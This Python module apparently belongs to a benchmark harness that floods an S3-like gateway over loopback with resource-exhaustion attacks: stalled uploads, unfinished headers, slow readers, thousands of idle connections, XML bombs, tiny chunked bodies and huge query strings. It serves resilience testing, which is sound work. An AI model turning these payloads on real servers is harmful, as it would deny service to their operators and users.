"""Attacks on a gateway from one address, over loopback: bounded in time and connections.

Each runs in its own process, so that it does not slow down the measuring client.
"""

import asyncio
import contextlib
import socket
from typing import Final

from bench import attack_requests
from bench.attack_target import SOURCE, Attack, Target, together
from bench.echo import key_of

BUCKET: Final = "plain"
_MANY: Final = 256
_PIECE: Final = 1 << 16
_BOMB: Final = 2 << 20
_LARGE: Final = key_of(64 << 20)


async def _connected(target: Target, receive_bytes: int | None) -> socket.socket:
    """Connect with a small receive buffer, so that a client that does not read blocks at once."""
    connection = socket.socket()
    try:
        if receive_bytes is not None:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        connection.bind((SOURCE, 0))
        connection.setblocking(False)
        await asyncio.get_running_loop().sock_connect(connection, target.address)
    except BaseException:
        connection.close()
        raise
    return connection


async def _hold(target: Target, connections: int, data: bytes, *, reads: bool = True) -> None:
    """Send the same data on many connections and hold them, reopening closed ones."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                connection = await _connected(target, None if reads else _PIECE)
                reader, writer = await asyncio.open_connection(sock=connection, limit=_PIECE)
                with contextlib.closing(writer):
                    writer.write(data)
                    await writer.drain()
                    if not reads:
                        await asyncio.Event().wait()
                    while await reader.read(_PIECE):
                        pass
            await asyncio.sleep(0.2)  # the attack does not target accepting of connections

    await together(target, one, connections)


async def _repeat(target: Target, connections: int, data: bytes) -> None:
    """Send a request repeatedly, each time on a new connection, and read the response."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(
                    *target.address, local_addr=(SOURCE, 0)
                )
                with contextlib.closing(writer):
                    writer.write(data)
                    await writer.drain()
                    while await reader.read(_PIECE):
                        pass
            await asyncio.sleep(0.01)

    await together(target, one, connections)


def _request(method: str, path: str, body: bytes = b"", *fields: str, length: int = -1) -> bytes:
    size = len(body) if length < 0 else length
    lines = [f"{method} {path} HTTP/1.1", "Host: x", "Connection: close", *fields]
    if method != "GET":
        lines.append(f"Content-Length: {size}")
    return "\r\n".join([*lines, "", ""]).encode() + body


async def _nothing(target: Target) -> None:
    await asyncio.sleep(target.seconds)


def _held(connections: int, data: bytes, *, reads: bool = True) -> Attack:
    return lambda target: _hold(target, connections, data, reads=reads)


def _repeated(connections: int, data: bytes) -> Attack:
    return lambda target: _repeat(target, connections, data)


def _deletes(body: bytes) -> Attack:
    return _repeated(4, _request("POST", f"/{BUCKET}?delete", body[:_BOMB]))


_FRAMED: Final = (
    "x-amz-content-sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER",
    f"x-amz-decoded-content-length: {1 << 20}",
)
"""Headers that allow a body without Content-Length."""


def _chunks(size: int, total: int) -> Attack:
    """Send aws-chunks of a few bytes each."""
    chunk = b"%x\r\n%b\r\n" % (size, b"x" * size)
    body = chunk * (total // size) + b"0\r\n\r\n"
    fields = (
        "x-amz-content-sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        "Content-Encoding: aws-chunked",
        f"x-amz-decoded-content-length: {total}",
    )
    return _repeated(2, _request("PUT", f"/{BUCKET}/chunks", body, *fields))


def _http_chunks(path: str, size: int, *fields: str) -> Attack:
    """Send HTTP chunks of a few bytes each, 1 MiB in total."""
    total = 1 << 20
    framing = "Connection: close", "Transfer-Encoding: chunked"
    lines = [f"PUT {path} HTTP/1.1", "Host: x", *framing, *fields, "", ""]
    chunk = b"%x\r\n%b\r\n" % (size, b"x" * size)
    return _repeated(8, "\r\n".join(lines).encode() + chunk * (total // size) + b"0\r\n\r\n")


_FIELDS: Final = b"".join(b"X-%03d: %b\r\n" % (n, b"a" * 16_200) for n in range(120))

ATTACKS: Final[dict[str, Attack]] = {
    "none": _nothing,
    "delete-heads": _held(_MANY, _request("POST", f"/{BUCKET}?delete", length=_BOMB)),
    "stalled-uploads": _held(_MANY, _request("PUT", f"/{BUCKET}/k", b"x" * 10, length=1 << 20)),
    "stalled-later": _held(_MANY, _request("PUT", f"/{BUCKET}/k", b"x" * 200_000, length=1 << 20)),
    "slow-readers": _held(_MANY, _request("GET", f"/{BUCKET}/{_LARGE}"), reads=False),
    "downloads": _held(_MANY, _request("GET", f"/{BUCKET}/{_LARGE}")),
    "silent": _held(1500, b""),
    "silent-tls": _held(2000, b""),
    "unfinished-heads": _held(_MANY, b"GET / HTTP/1.1\r\nHost: x\r\n" + _FIELDS),
    "xml-flat": _deletes(b"<Delete>" + b"<a/>" * 520_000),
    "xml-nested": _deletes(b"<a>" * 690_000),
    "xml-objects": _deletes(b"<Delete>" + b"<Object><Key>k</Key></Object>" * 70_000),
    "xml-attributes": _deletes(b"<Delete " + b" ".join(b'a%d=""' % n for n in range(180_000))),
    "xml-text": _deletes(b"<Delete>" + b"&lt;" * 520_000),
    "chunks-1": _chunks(1, 192 << 10),
    "chunks-2": _chunks(2, 1 << 20),
    "http-chunks-refused": _http_chunks(f"/{BUCKET}/chunks", 1),
    "http-chunks-taken": _http_chunks(f"/{BUCKET}/chunks", 1, *_FRAMED),
    "long-query": _repeated(8, _request("GET", f"/{BUCKET}?" + "&".join(["a"] * 7000))),
    **attack_requests.ATTACKS,
}
"""Attacks by name; the measuring client speaks TLS if the name ends in -tls."""


def run(name: str, target: Target) -> None:
    """Attack until the time is over."""

    async def attack() -> None:
        await ATTACKS[name](target)

    asyncio.run(attack())
